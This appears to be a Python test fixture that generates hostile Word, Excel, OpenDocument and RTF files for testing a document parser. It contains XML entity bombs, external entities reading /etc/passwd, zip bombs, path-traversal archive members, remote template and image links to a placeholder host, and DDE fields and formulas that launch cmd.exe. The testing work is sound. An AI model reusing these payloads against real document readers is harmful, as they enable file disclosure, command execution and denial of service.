"""Hostile office documents: entities, parts that unfold or point outside, macros, tables without end.

Source: ECMA-376, part 2 (packages); OpenDocument 1.3, part 2; Rich Text Format 1.9.1.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator, Mapping

from tests.kit import papers
from tests.kit.hostile.model import Hostile

LAUGHS = (
    "<!DOCTYPE a [<!ENTITY b0 'ha'>" + "".join(f"<!ENTITY b{n} '{f'&b{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
)
OUTSIDE = "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>"
BY_ADDRESS = "<!DOCTYPE a SYSTEM 'https://tracker.example/a.dtd'>"
GRID = papers.workbook(("Date", "Act"))


def with_head(content: bytes, part: str, head: str, inside: str) -> bytes:
    """An archive one part of which begins with a document type, and says what it defines where its first text is."""
    with zipfile.ZipFile(io.BytesIO(content)) as old:
        text = old.read(part)
    if text.startswith(b"<?xml"):
        text = text.split(b"?>", 1)[1]
    return _replaced(content, part, head.encode() + text.replace(b">Hello<", f">{inside}<".encode(), 1))


def files() -> Iterator[Hostile]:
    """All of them."""
    yield from _shared("docx", lambda body: papers.word(papers.said(body)), "word/document.xml")
    yield from _shared("xlsx", lambda body: papers.workbook((body, "b")), "xl/worksheets/sheet1.xml")
    yield from _shared("odt", lambda body: papers.open_text(f"<text:p>{body}</text:p>"), "content.xml")
    yield from _word_files()
    yield from _grid_files()
    yield from _open_files()
    yield from _rich_files()


def _shared(ending: str, make: Callable[[str], bytes], part: str) -> Iterator[Hostile]:
    """What can be done to every document that is an archive of markup."""
    plain = make("Hello")
    for name, head, inside in (
        ("laughs", LAUGHS, "&b9;"), ("outside entity", OUTSIDE, "&b;"), ("outside type", BY_ADDRESS, "Hello"),
    ):  # fmt: skip
        yield Hostile(f"{name}.{ending}", lambda h=head, i=inside: with_head(plain, part, h, i))  # type: ignore[misc]
    yield Hostile(f"part that unfolds.{ending}", lambda: _replaced(plain, part, b" " * 80_000_000))
    yield Hostile(f"part that is no markup.{ending}", lambda: _replaced(plain, part, b"\0\xff" * 400))
    yield Hostile(f"nested markup.{ending}", lambda: _replaced(plain, part, b"<a>" * 60_000 + b"</a>" * 60_000))
    yield Hostile(f"many members.{ending}", lambda: _with_members(plain, {f"a/{n}": "" for n in range(3_000)}))
    yield Hostile(f"climbing name.{ending}", lambda: _with_members(plain, {"../../../etc/cron.d/a": "x", "/b": "y"}))
    yield Hostile(f"bomb beside it.{ending}", lambda: _with_members(plain, {"media/a.bin": bytes(90_000_000)}))


def _replaced(content: bytes, part: str, other: bytes) -> bytes:
    return _with_members(content, {part: other})


def _with_members(content: bytes, members: Mapping[str, bytes | str]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as old:
        kept: dict[str, bytes | str] = {name: old.read(name) for name in old.namelist()}
    return papers.zipped({**kept, **members})


def _word_files() -> Iterator[Hostile]:
    word, said = papers.word, papers.said("Hello")
    macros: dict[str, bytes | str] = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)}
    template = papers.reference("t1", "attachedTemplate", "https://tracker.example/a.dotm", outside=True)
    frame = papers.reference("f1", "frame", "file:///etc/passwd", outside=True)
    picture = papers.reference("p1", "image", "https://tracker.example/a.png", outside=True)
    climbing = papers.reference("p1", "image", "../../../../etc/passwd")
    drawn = (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="p1" '
        'r:link="p1"/></w:drawing></w:r></w:p>'
    )
    field = "<w:p><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText></w:r></w:p>"
    yield Hostile("macros.docx", lambda: word(said, macros), says="macro")
    yield Hostile("template by address.docx", lambda: word(said, references=template))
    yield Hostile("frame from outside.docx", lambda: word(said, references=frame))
    yield Hostile("picture by address.docx", lambda: word(drawn + said, references=picture))
    yield Hostile("picture from outside the package.docx", lambda: word(drawn + said, references=climbing))
    yield Hostile("field that starts a program.docx", lambda: word(field + said))
    yield Hostile("tables within tables.docx", lambda: word(
        "<w:tbl><w:tr><w:tc>" * 400 + said + "</w:tc></w:tr></w:tbl>" * 400))  # fmt: skip
    yield Hostile("row that spans without end.docx", lambda: word(
        f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr>{said}</w:tc></w:tr></w:tbl>'))  # fmt: skip
    yield Hostile("hidden words.docx", lambda: word(
        said + "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Hidden</w:t></w:r></w:p>"), says="hidden")  # fmt: skip
    yield Hostile("a word of two million letters.docx", lambda: word(papers.said("a" * 2_000_000)))


def _grid_files() -> Iterator[Hostile]:
    sheet = "xl/worksheets/sheet1.xml"
    head = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
    )
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
    filled = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 200_000))
    for name, rows in {
        "cell at the far end": far,
        "row of no number": '<row r="0"><c r="A0"><v>1</v></c></row>',
        "cell of nonsense": '<row r="1"><c r="ZZZZZZ99999999999"><v>1</v></c></row>',
        "number without end": f'<row r="1"><c r="A1"><v>{"9" * 100_000}</v></c></row>',
        "date beyond time": '<row r="1"><c r="A1" s="1"><v>1e300</v></c></row>',
        "shared text that is not there": '<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>',
        "formula that fetches": '<row r="1"><c r="A1"><f>WEBSERVICE("https://tracker.example")</f><v>1</v></c></row>',
        "formula that starts a program": "<row r='1'><c r='A1'><f>cmd|' /c calc'!A0</f><v>1</v></c></row>",
        "rows without end": filled,
        "merged from end to end": '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><sheetData>',
    }.items():
        text = f"{head}<sheetData>{rows}</sheetData></worksheet>".encode()
        yield Hostile(f"{name}.xlsx", lambda text=text: _replaced(GRID, sheet, text))  # type: ignore[misc]
    yield Hostile("macros.xlsx", lambda: _with_members(GRID, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), says="macro")
    yield Hostile("outside workbook.xlsx", lambda: _with_members(GRID, {
        "xl/externalLinks/externalLink1.xml": "<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="{papers.PACKAGE_SPACE}">'
        + papers.reference("r1", "externalLinkPath", "file:///etc/passwd", outside=True) + "</Relationships>",
    }))  # fmt: skip


def _open_files() -> Iterator[Hostile]:
    text = papers.open_text
    for name, body in {
        "spaces without end": '<text:p>a<text:s text:c="2147483647"/>b</text:p>',
        "cells repeated without end": '<table:table><table:table-row table:number-rows-repeated="1048576">'
        '<table:table-cell table:number-columns-repeated="16384"><text:p>a</text:p></table:table-cell>'
        "</table:table-row></table:table>",
        "tables within tables": "<table:table><table:table-row><table:table-cell>" * 300
        + "<text:p>a</text:p>"
        + "</table:table-cell></table:table-row></table:table>" * 300,
        "picture by address": '<text:p>a<draw:frame><draw:image xlink:href="https://tracker.example/a.png"/></draw:frame></text:p>',
        "object from outside": '<text:p>a<draw:frame><draw:object xlink:href="file:///etc/passwd"/></draw:frame></text:p>',
        "script in an event": "<text:p>a</text:p><office:event-listeners/>",
        "lists within lists": "<text:list><text:list-item>" * 500
        + "<text:p>a</text:p>"
        + "</text:list-item></text:list>" * 500,
    }.items():
        yield Hostile(f"{name}.odt", lambda body=body: text(body))  # type: ignore[misc]
    yield Hostile("macros.odt", lambda: text("<text:p>a</text:p>", parts={"Basic/script-lc.xml": "<b/>"}))


def _rich_files() -> Iterator[Hostile]:
    def rich(body: bytes) -> bytes:
        return rb"{\rtf1\ansi " + body + rb"\par}"

    for name, body in {
        "groups without end": b"{" * 300_000,
        "groups that close too often": b"a" + b"}" * 5_000,
        "object that runs": rb"Hello{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}}",
        "object that is fetched": rb"Hello{\object\objautlink\objupdate{\*\objclass Word.Document}}",
        "template by address": rb"{\*\template https://tracker.example/a.dotm}Hello",
        "field that starts a program": rb'Hello{\field{\*\fldinst DDEAUTO cmd "/c calc"}{\fldrslt x}}',
        "picture by address": rb'Hello{\field{\*\fldinst INCLUDEPICTURE "//tracker.example/a.png" \\d}{\fldrslt}}',
        "binary length lies": rb"Hello\bin2147483647 abc",
        "binary length below nothing": rb"Hello\bin-9 abc",
        "number without end": rb"\fs" + b"9" * 20_000 + rb" Hello",
        "letters without end": rb"\u-99999999999?" * 20_000,
        "picture of nonsense": rb"Hello{\pict\pngblip\picw99999999\pich99999999 " + b"89504e47" * 20 + b"}",
        "columns without end": rb"\trowd" + rb"\cellx100" * 20_000 + rb"a\cell\row",
        "words without end": b"a" * 3_000_000,
        "control words without end": rb"\b\b0" * 300_000,
    }.items():
        yield Hostile(f"{name}.rtf", lambda body=body: rich(body))  # type: ignore[misc]
